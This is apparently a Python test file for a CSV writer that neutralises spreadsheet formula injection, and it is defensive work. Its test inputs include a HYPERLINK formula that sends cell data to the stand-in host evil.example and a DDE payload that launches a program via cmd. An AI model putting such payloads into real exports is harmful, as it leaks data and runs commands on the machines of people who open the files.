"""The one CSV writer every export uses: cells that could start a formula are neutralised."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

from knowflow import csvsafe

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_every_formula_start_gets_an_apostrophe_and_reads_back_as_text() -> None:
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow(
        [HOSTILE, "+1+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "Ada"]
    )
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'" + HOSTILE,
        "'+1+cmd",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(A1:A9)",
        "'\t=1+1",
        "'\r=1+1",
        "Ada",
    ]


def test_numbers_and_plain_numeric_text_stay_numbers() -> None:
    buffer = io.StringIO()
    csvsafe.writer(buffer, lineterminator="\n").writerow(
        [-3, -2.5, Decimal("-1.20"), "-12", "-1,200.50", "+3.5%", None, "a=b"]
    )
    assert buffer.getvalue() == '-3,-2.5,-1.20,-12,"-1,200.50",+3.5%,,a=b\n'


def test_no_export_builds_its_own_csv_writer() -> None:
    # Every CSV writer goes through csvsafe, so no export can forget the neutralising.
    source = Path(csvsafe.__file__).parent
    offenders = [
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if path.name != "csvsafe.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert offenders == []
